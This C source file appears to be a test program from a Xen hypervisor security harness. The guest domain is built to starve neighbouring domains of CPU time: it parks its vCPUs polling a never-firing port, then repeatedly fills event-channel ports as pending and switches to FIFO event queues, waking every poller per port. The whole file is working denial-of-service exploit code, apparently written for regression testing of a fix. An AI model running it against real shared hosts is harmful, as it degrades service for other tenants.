/*
 * Wants: the neighbours' time, by an event array that comes late.
 *
 * What was pending when a domain went over to event queues is raised when the array has its words, and who polls is woken for
 * each port that is.  Here all 1,023 ports of the array's first page are pending, none of them is in a queue yet, and all other vCPUs
 * are in polls for one port that is not: every raised port asks 63 sleepers, within one call.  Then all is reset, and again.
 *
 * Fails: the ports are raised some at a time, with a preemption point between, and the sleepers are asked once for so many.
 */
#include "attack.h"
#include "event.h"
#include "guest.h"
#include "memory.h"
#include "tap.h"

#include <paravane/hypercall.h>
#include <xen/event_channel.h>
#include <xen/sched.h>
#include <xen/vcpu.h>

#define POLLED     1    /* never pending */
#define FIRST_PAGE 1024 /* words of an array's page */

static void poll_for_ever(unsigned vcpu)
{
    evtchn_port_t list[1] = {POLLED};

    hypercall_vcpu_op(VCPUOP_stop_periodic_timer, vcpu, NULL);
    for (;;) {
        struct sched_poll p = {.nr_ports = 1};
        set_xen_guest_handle(p.ports, list);
        hypercall_sched_op(SCHEDOP_poll, &p);
        attack_nap(1000000);
    }
}

/* Reset, and have all ports of an array's first page open; all pending but the one that is polled. */
static void fill_ports(void)
{
    struct evtchn_reset reset = {.dom = DOMID_SELF};
    struct evtchn_alloc_unbound a = {.dom = DOMID_SELF, .remote_dom = DOMID_SELF};

    if (hypercall_event_channel_op(EVTCHNOP_reset, &reset))
        tap_bail_out("no reset");
    do {
        if (hypercall_event_channel_op(EVTCHNOP_alloc_unbound, &a))
            tap_bail_out("no port");
    } while (a.port < FIRST_PAGE - 1);
    for (unsigned i = 0; i < FIRST_PAGE / 64; i++)
        guest_shared->evtchn_pending[i] = ~0ul;
    guest_shared->evtchn_pending[0] &= ~(1ul << POLLED);
}

static void to_queues(void *control, uint32_t *array)
{
    struct evtchn_init_control c = {.control_gfn = page_mfn(control)};
    struct evtchn_expand_array e = {.array_gfn = page_mfn(array)};

    for (unsigned i = 0; i < FIRST_PAGE; i++)
        array[i] = 0;
    if (hypercall_event_channel_op(EVTCHNOP_init_control, &c))
        tap_bail_out("no control block");
    if (hypercall_event_channel_op(EVTCHNOP_expand_array, &e))
        tap_bail_out("no array");
}

void guest_main(void)
{
    const unsigned count = guest_option("vcpus", ATTACK_LEGACY);
    void *control = page_alloc();
    uint32_t *array = page_alloc();

    attack_begin("late-array");
    event_disable();
    attack_vcpu_infos(count);
    attack_vcpus(count, poll_for_ever);
    attack_nap(5000000); /* until they poll */
    while (attack_goes_on()) {
        fill_ports();
        to_queues(control, array);
    }
    guest_shutdown(SHUTDOWN_poweroff);
}
